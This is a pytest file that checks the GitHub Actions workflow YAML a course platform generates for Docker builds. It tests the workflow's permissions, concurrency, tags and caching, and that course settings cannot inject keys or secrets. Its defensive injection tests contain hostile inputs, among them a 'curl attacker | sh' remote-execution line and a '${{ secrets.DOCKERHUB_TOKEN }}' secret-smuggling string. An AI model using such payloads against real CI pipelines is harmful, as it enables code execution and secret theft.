"""The workflow hubcourse writes: Docker's recommended one plus a queue per branch, the
commit SHA as a second tag, a read-only job token and a build cache; every course value in
it is serialised so that no quote, newline or expression in a setting can break the YAML,
add a key or reach a secret (read back with a YAML parser, as GitHub does)."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from accounts.models import Course
from builds.backends.github_actions.backend import workflow_text
from builds.models import Build, BuildState
from builds.services import build_configure, build_trigger_first, builds_refresh
from repositories.models import StudentRepository
from tests.builds.support import make_student, use_sandbox

IMAGE = "revelare/docker-101-ada"


def _load(text: str) -> dict[Any, Any]:
    data = yaml.safe_load(text)
    assert isinstance(data, dict)
    # YAML 1.1 reads the key "on" as True; GitHub reads it as "on".
    data["on"] = data.pop(True)
    return data


def _build_step(data: dict[Any, Any]) -> dict[str, Any]:
    steps = data["jobs"]["build"]["steps"]
    (step,) = [s for s in steps if str(s.get("uses", "")).startswith("docker/build-push-action")]
    return dict(step["with"])


def test_the_workflow_queues_per_branch_tags_the_sha_reads_only_and_caches() -> None:
    course = Course(name="Docker 101", slug="docker-101", build_tag="week1")

    data = _load(workflow_text(course, IMAGE))
    build = _build_step(data)

    assert data["permissions"] == {"contents": "read"}
    assert data["concurrency"] == {
        "group": "hubcourse-${{ github.ref }}",
        "cancel-in-progress": False,
    }
    assert data["on"]["push"]["branches"] == ["main"]
    assert build["tags"].split("\n") == [f"{IMAGE}:week1", IMAGE + ":${{ github.sha }}"]
    assert (build["cache-from"], build["cache-to"]) == ("type=gha", "type=gha,mode=max")
    assert build["file"] == "./DockerfileVolume" and build["context"] == "./"
    assert build["push"] is True


@pytest.mark.parametrize(
    "hostile",
    [
        'x"\nevil: 1',
        "x'\n  - run: curl attacker | sh",
        "x # a comment? ]}",
        "${{ secrets.DOCKERHUB_TOKEN }}",
        "x\\\u2028y\u0085z\x00",
    ],
)
def test_no_course_value_can_break_or_inject_into_the_yaml(hostile: str) -> None:
    course = Course(
        name=hostile,
        slug="docker-101",
        build_branch=hostile,
        build_tag=hostile,
        build_dockerfile=hostile,
        build_context=hostile,
    )

    data = _load(workflow_text(course, IMAGE))
    build = _build_step(data)

    assert set(data) == {"name", "on", "permissions", "concurrency", "jobs"}
    assert set(data["jobs"]) == {"build"}
    assert len(data["jobs"]["build"]["steps"]) == 4
    assert set(build) == {"context", "file", "push", "tags", "cache-from", "cache-to"}
    (branch,) = data["on"]["push"]["branches"]
    # The filter is the branch itself, glob characters escaped; nothing else was added.
    assert branch.replace("\\", "") == hostile.replace("\\", "")
    assert build["tags"].startswith(f"{IMAGE}:")
    # A literal "${{" in an input reaches GitHub as the expression that yields "${{".
    for value in (build["file"], build["context"], build["tags"].rsplit("\n", 1)[0]):
        assert "${{ secrets" not in value


@pytest.mark.django_db(transaction=True)
def test_a_build_in_the_sandbox_pushes_the_tag_and_the_commit_sha(
    sandbox: Any, course: Course, settings: Any
) -> None:
    course.build_branch = "week+1"  # a glob character GitHub's filter must match literally
    course.build_tag = "week1"
    course.save()
    course = use_sandbox(sandbox, course, "github-actions", settings)
    student = make_student(sandbox, course, "hedylamarr", default_branch="week+1")
    build_configure(enrolment_id=student.pk)
    build_trigger_first(enrolment_id=student.pk)
    sandbox.world.wait_idle(timeout=10)
    builds_refresh(enrolment_id=student.pk)

    build = Build.objects.get(enrolment=student)
    assert build.state == BuildState.SUCCESS, build.log_excerpt
    repository = StudentRepository.objects.get(enrolment=student)
    tags = sandbox.world.dockerhub["repos"][f"{repository.namespace}/{repository.name}"]["tags"]
    assert {"week1", build.commit_sha} <= set(tags)
